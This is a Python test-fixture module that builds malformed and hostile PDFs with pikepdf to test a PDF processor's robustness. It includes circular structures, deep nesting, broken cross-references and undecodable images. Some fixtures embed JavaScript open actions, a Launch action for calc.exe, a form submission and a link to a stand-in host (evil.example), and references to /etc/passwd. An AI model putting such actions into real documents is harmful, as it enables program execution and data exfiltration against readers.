"""PDFs that are whole and odd, or broken inside: active content, circles, wrong pictures and pages."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf

from tests.faults.inputs.files import Inputs
from tests.faults.inputs.made import JPEG, NAME, PICTURE, Change, flat, picture, scan

D, A = pikepdf.Dictionary, pikepdf.Array


def _root(**entries: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return scan(change)


def _page(**entries: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            pdf.pages[0].obj[f"/{key}"] = value

    return scan(change)


def _content(text: bytes) -> bytes:
    return scan(
        lambda pdf: pdf.pages[0].obj.__setitem__("/Contents", pdf.make_stream(text))
    )


def _drawn(before: bytes = b"", behind: bytes = b"") -> bytes:
    """Something before and behind what draws the picture."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        page.Contents = pdf.make_stream(before + page.Contents.read_bytes() + behind)

    return scan(change)


def _action(kind: str, **more: object) -> pikepdf.Dictionary:
    return D({"/S": pikepdf.Name(f"/{kind}"), **{f"/{k}": v for k, v in more.items()}})


def _link(action: pikepdf.Dictionary) -> bytes:
    widget = D(Type=NAME.Annot, Subtype=NAME.Link, Rect=A([0, 0, 50, 50]), A=action)
    return _page(Annots=A([widget]))


def _kids_of_itself(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def _outline(pdf: pikepdf.Pdf) -> None:
    one, two = pdf.make_indirect(D(Title="A")), pdf.make_indirect(D(Title="B"))
    one.Next, two.Next, one.First, one.Last = two, one, one, two
    pdf.Root.Outlines = pdf.make_indirect(D(Type=NAME.Outlines, First=one, Last=two))


def _names(pdf: pikepdf.Pdf) -> None:
    kid = pdf.make_indirect(D())
    kid.Kids = A([kid])
    pdf.Root.Names = D(Dests=kid)


def _form_in_itself(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"/Fm Do")
    form.stream_dict = D(Type=NAME.XObject, Subtype=NAME.Form, BBox=A([0, 0, 200, 90]))
    form.Resources = D(XObject=D(Fm=form))
    pdf.pages[0].obj.Resources.XObject.Fm = form
    page = pdf.pages[0].obj
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" /Fm Do")


def _parent_of_itself(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Parent = pdf.Root.Pages


def _deep(levels: int) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        page, node = pdf.pages[0].obj, pdf.Root.Pages
        node.Kids = A()
        for _ in range(levels):
            kid = D(Type=NAME.Pages, Count=1, Parent=node, Kids=A())
            node.Kids.append(pdf.make_indirect(kid))
            node = node.Kids[0]
        node.Kids.append(page)
        page.Parent = node

    return change


def _raw(text: Callable[[bytes], bytes]) -> bytes:
    return text(scan())


def _many(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Odd = A([pdf.make_indirect(D()) for _ in range(20_000)])


def _pageless() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _without(key: str) -> bytes:
    return scan(
        lambda pdf: pdf.pages[0].obj.Resources.XObject.Im0.__delitem__(f"/{key}")
    )


_NOISE = bytes(range(256)) * 9
_FAX = D(K=-1, Columns=PICTURE.width, Rows=PICTURE.height)
INPUTS: Inputs = {
    "PDF that is no paper": {
        "without pages": _pageless(),
        "portfolio": _root(Collection=D()),
        "dynamic form": _root(
            AcroForm=D(XFA=pikepdf.String("<xdp/>"), Fields=A()), NeedsRendering=True
        ),
    },
    "programs in a PDF": {
        "JavaScript at opening": _root(
            OpenAction=_action("JavaScript", JS="app.alert(1)")
        ),
        "JavaScript by name": _root(
            Names=D(JavaScript=D(Names=A(["a", _action("JavaScript", JS="1")])))
        ),
        "a program is launched": _root(OpenAction=_action("Launch", F="calc.exe")),
        "at each page": _page(AA=D(O=_action("JavaScript", JS="1"))),
        "a form is sent": _link(_action("SubmitForm", F="http://evil.example/")),
    },
    "a PDF that points elsewhere": {
        "link": _link(_action("URI", URI="http://evil.example/")),
        "another file": _link(_action("GoToR", F="/etc/passwd", D=A([0, NAME.Fit]))),
        "picture in another file": scan(F=D(Type=NAME.Filespec, F="/etc/passwd")),
        "attached file": _root(Names=D(EmbeddedFiles=D(Names=A()))),
    },
    "a PDF in circles": {
        "pages": scan(_kids_of_itself),
        "outline": scan(_outline),
        "names": scan(_names),
        "a form that draws itself": scan(_form_in_itself),
        "parents": scan(_parent_of_itself),
    },
    "depth and number": {
        "400 levels of pages": scan(_deep(400)),
        "20,000 objects": scan(_many),
        "50,000 saved states": _drawn(b"q " * 50_000),
        "arrays in arrays": _drawn(b"[" * 5_000 + b"]" * 5_000 + b" pop "),
    },
    "cross-references": {
        "a wrong place": _raw(
            lambda data: data.replace(b"startxref\n", b"startxref\n9")
        ),
        "no table": _raw(lambda data: data.replace(b"\nxref\n", b"\nxxxx\n")),
        "no end": _raw(lambda data: data[: data.rindex(b"startxref")]),
        "a former table in circles": _raw(
            lambda data: data.replace(
                b"trailer <<", b"trailer << /Prev %d" % data.rindex(b"xref\n0")
            )
        ),
        "no trailer": _raw(lambda data: data.replace(b"trailer", b"tra1ler")),
    },
    "pictures that can't be unpacked": {
        "Flate": flat(Width=PICTURE.width * 2),
        "JBIG2": scan(data=b"no jbig2", Filter=NAME.JBIG2Decode, BitsPerComponent=1),
        "fax": scan(
            data=_NOISE,
            Filter=NAME.CCITTFaxDecode,
            BitsPerComponent=1,
            DecodeParms=_FAX,
        ),
        "JPEG 2000": scan(data=_NOISE, Filter=NAME.JPXDecode),
        "LZW": scan(data=_NOISE, Filter=NAME.LZWDecode),
        "run lengths": scan(data=b"\x80", Filter=NAME.RunLengthDecode),
        "ASCII85": scan(data=b"<~zz~>", Filter=NAME.ASCII85Decode),
        "an unknown filter": scan(Filter=NAME.NoSuchDecode),
        "cut JPEG": scan(data=JPEG[: len(JPEG) // 2]),
    },
    "pictures that say something else": {
        "no width": _without("Width"),
        "no height": _without("Height"),
        "width below zero": scan(Width=-5),
        "another width": scan(Width=17),
        "three bits": flat(BitsPerComponent=3),
        "an unknown colour space": scan(ColorSpace=NAME.NoSuchSpace),
        "no colour space": _without("ColorSpace"),
        "turned colours": scan(Decode=A([1, 0])),
        "a mask that is none": scan(SMask=pikepdf.String("x")),
    },
    "pages of no size": {
        "nothing": _page(MediaBox=A([0, 0, 0, 0])),
        "below zero": _page(MediaBox=A([252, 93.6, 0, 0])),
        "very large": _page(MediaBox=A([0, 0, 10**7, 10**7])),
        "no box": scan(lambda pdf: pdf.pages[0].obj.__delitem__("/MediaBox")),
        "words for numbers": _page(MediaBox=A([0, 0, NAME.a, NAME.b])),
        "cut away": _page(CropBox=A([900, 900, 950, 950])),
    },
    "pages turned": {
        "by 90": _page(Rotate=90),
        "by 45": _page(Rotate=45),
        "by -270": _page(Rotate=-270),
        "by a word": _page(Rotate=NAME.x),
    },
    "what a page draws": {
        "nothing": _content(b""),
        "no content": scan(lambda pdf: pdf.pages[0].obj.__delitem__("/Contents")),
        "words that are no operators": _drawn(b"foo bar baz "),
        "states not restored": _drawn(behind=b" q q q"),
        "a picture that is not there": _content(b"/Nothing Do"),
        "no resources": scan(lambda pdf: pdf.pages[0].obj.__delitem__("/Resources")),
        "a broken string": _drawn(behind=b" (abc"),
        "a picture in the content": _content(
            b"q 200 0 0 90 0 0 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\x00\xff EI Q"
        ),
    },
    "a scan under or over something": {
        "twice the picture": _drawn(behind=b" q 100 0 0 50 0 0 cm /Im0 Do Q"),
        "a white sheet over it": _drawn(behind=b" 1 g 0 0 900 900 re f"),
        "a line over it": _drawn(behind=b" 0 0 m 200 90 l S"),
    },
    "compressed as few are": {
        "JPEG 2000": scan(data=picture("JPEG2000"), Filter=NAME.JPXDecode),
        "two filters": scan(
            data=JPEG.hex().encode() + b">",
            Filter=A([NAME.ASCIIHexDecode, NAME.DCTDecode]),
        ),
    },
}
